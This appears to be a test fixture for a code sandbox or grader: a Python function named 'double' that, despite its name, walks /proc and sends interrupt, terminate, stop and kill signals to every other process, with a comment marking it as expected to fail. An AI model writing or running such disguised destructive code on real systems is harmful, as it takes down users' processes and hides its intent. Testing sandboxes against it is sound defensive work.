# expect: failed - kills every process that /proc names
import os

def double(n):
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            for number in (2, 15, 19, 9):
                try:
                    os.kill(int(entry), number)
                except OSError:
                    pass
    return 0
